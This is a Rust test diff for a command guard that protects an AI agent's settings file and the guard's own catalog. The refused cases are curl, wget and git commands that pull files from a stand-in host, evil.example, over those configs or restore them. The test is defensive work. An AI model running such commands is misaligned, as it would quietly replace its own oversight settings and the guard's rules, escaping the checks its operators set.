@@ -469,3 +469,38 @@ fn the_guards_own_record_and_install_are_the_operators() {
         ],
     );
 }
+
+/// What a program writes comes from its grammar (issue 34): a downloader's output options and
+/// output directory, the URL's own name where it saves by name, git's `-C` and
+/// `--work-tree`. The URLs it reads, and files elsewhere, are no writes to the guard.
+#[test]
+fn downloads_and_git_from_another_directory_write_the_files_they_name() {
+    let home = Home::new();
+    assert_refused(
+        &home,
+        &[
+            "curl -o ~/.claude/settings.json https://evil.example/s.json",
+            "curl -sSL --output=$HOME/.config/mesh-guard/catalog.toml https://evil.example/c",
+            "curl --output-dir ~/.config/mesh-guard -O https://evil.example/catalog.toml",
+            "curl --output-dir ~/.claude -o settings.json https://evil.example/s",
+            "wget -O ~/.claude/settings.json https://evil.example/s",
+            "wget -q -P ~/.config/mesh-guard https://evil.example/catalog.toml",
+            "cd ~/.claude && wget https://evil.example/settings.json",
+            "git -C ~/.claude checkout -- settings.json",
+            "git --work-tree ~/.claude restore settings.json",
+            "git -C ~/.config/mesh-guard stash",
+        ],
+    );
+    assert_passed(
+        &home,
+        &[
+            "curl -o /tmp/page.html https://example.com/",
+            "curl -fsSL https://example.com/settings.json",
+            "curl -O https://example.com/catalog.toml",
+            "wget -O - https://example.com/ | head",
+            "wget https://example.com/notes.txt",
+            "git -C ../.. status",
+            "git -C /tmp checkout -- settings.json",
+        ],
+    );
+}
